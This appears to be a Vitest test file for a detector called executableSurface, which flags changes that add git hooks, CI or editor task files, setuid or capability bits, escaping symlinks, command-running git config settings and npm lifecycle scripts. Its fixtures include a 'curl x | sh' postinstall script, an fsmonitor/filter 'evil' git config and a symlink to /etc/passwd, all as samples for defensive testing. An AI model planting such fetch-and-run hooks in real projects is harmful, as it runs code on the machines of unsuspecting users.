import { describe, expect, it } from 'vitest';
import { contentOf, directory, file, type MemoryNode, symlink } from '../../test/support/memory-trees.ts';
import { executableSurface, type SurfaceChange } from './executable-surface.ts';

function reasons(
	path: string,
	after: MemoryNode | null,
	before: MemoryNode | null = null,
	role: SurfaceChange['role'] = 'project',
): string[] {
	const read = (node: MemoryNode | null) => () => (node?.inode.kind === 'file' ? contentOf(node.data) : null);
	const change = { path, role, before: before?.inode ?? null, after: after?.inode ?? null };
	return executableSurface([{ ...change, readBefore: read(before), readAfter: read(after) }]).map(
		({ reason }) => reason,
	);
}

describe('executableSurface', () => {
	it.each([
		['.git/hooks/pre-commit', /hook/],
		['vendor/lib/.git/hooks/post-checkout', /hook/],
		['.husky/pre-push', /hooks/],
		['.envrc', /shell/],
		['.vscode/tasks.json', /editor/],
		['.idea/workspace.xml', /editor/],
		['web/.github/workflows/ci.yml', /integration/],
		['.gitlab-ci.yml', /integration/],
		['.mcp.json', /agent/],
		['.GIT/hooks/x', /hook/],
	])('%s is on the list', (path, reason) => {
		expect(reasons(path, file('x'))).toEqual([expect.stringMatching(reason)]);
	});

	it('knows a hook in a git directory elsewhere', () => {
		expect(reasons('hooks/pre-commit', file('x'), null, 'gitdir')).toEqual(['git runs it as a hook']);
		expect(reasons('hooks/pre-commit', file('x'))).toEqual([]);
	});

	it.each(['src/a.ts', 'README.md', 'Makefile', 'docs/hooks/x'])('%s, as an ordinary file, is not', (path) => {
		expect(reasons(path, file('x'))).toEqual([]);
	});

	it('does not list what is removed, nor directories', () => {
		expect(reasons('.envrc', null, file('x'))).toEqual([]);
		expect(reasons('.vscode', directory())).toEqual([]);
	});

	it('lists what became executable or set-user-id, not what was', () => {
		const plain = file('x');
		const executable = file('x', { mode: 0o755 });
		expect(reasons('a', executable, plain)).toEqual(['it is newly executable']);
		expect(reasons('a', executable)).toEqual(['it is newly executable']);
		expect(reasons('a', file('y', { mode: 0o755 }), executable)).toEqual([]);
		expect(reasons('a', file('x', { mode: 0o4755 }), executable)).toEqual([expect.stringMatching(/set-user-id/)]);
		expect(reasons('Makefile', executable, plain)).toEqual([expect.stringMatching(/build/)]);
	});

	it('lists a file that was given capabilities, or others, not one that has them', () => {
		const plain = file('x', { mode: 0o755 });
		const capable = (value: string) =>
			file('x', { mode: 0o755, xattrs: new Map([['security.capability', Buffer.from(value)]]) });
		expect(reasons('a', capable('1'), plain)).toEqual(['it gives whoever runs it capabilities']);
		expect(reasons('a', capable('2'), capable('1'))).toEqual(['it gives whoever runs it capabilities']);
		expect(reasons('a', capable('1'), capable('1'))).toEqual([]);
		expect(reasons('a', plain, capable('1'))).toEqual([]);
	});

	it.each([
		['a', '/etc/passwd', true],
		['a', '..', true],
		['d/a', '../../x', true],
		['d/a', '../x', false],
		['d/a', 'x/../../y', false],
		['a', 'x', false],
	])('a link at %s to %s leads out: %s', (path, target, leads) => {
		expect(reasons(path, symlink(target))).toHaveLength(leads ? 1 : 0);
	});

	it('names the settings of a git config that run something, when they are new', () => {
		const before = file('[core]\n\tbare = false\n[alias]\n\tst = status\n');
		const after = file(
			'[core]\n\tbare = false\n\tfsmonitor = ./x\n[alias]\n\tst = status\n[filter "lfs"]\n\tclean = \\\n evil\n',
		);
		expect(reasons('.git/config', after, before)).toEqual([
			'git would run what it says: core.fsmonitor=./x; filter.lfs.clean=evil',
		]);
		expect(reasons('.git/config', file('[branch "x"]\n\tremote = origin\n'), before)).toEqual([]);
		expect(reasons('.git/config', file('[core] hooksPath = /tmp/h'), before)).toHaveLength(1);
		expect(reasons('config', file('[include]\npath=x'), null, 'gitdir')).toHaveLength(1);
	});

	it('names the scripts of a package.json that changed', () => {
		const before = file(JSON.stringify({ scripts: { test: 'vitest', build: 'tsc' } }));
		const after = file(JSON.stringify({ scripts: { test: 'vitest', build: 'tsc', postinstall: 'curl x | sh' } }));
		expect(reasons('web/package.json', after, before)).toEqual(['npm would run it: postinstall: curl x | sh']);
		expect(reasons('package.json', file(JSON.stringify({ version: '2', scripts: { build: 'tsc' } })), before)).toEqual(
			[],
		);
		expect(reasons('package.json', file('null'), before)).toEqual([]);
	});

	it('lists new filters in .gitattributes', () => {
		expect(reasons('.gitattributes', file('*.bin filter=lfs diff=lfs -text\n'))).toEqual([
			expect.stringMatching(/filter=lfs; diff=lfs/),
		]);
		expect(reasons('.gitattributes', file('* text=auto\n'))).toEqual([]);
	});
});
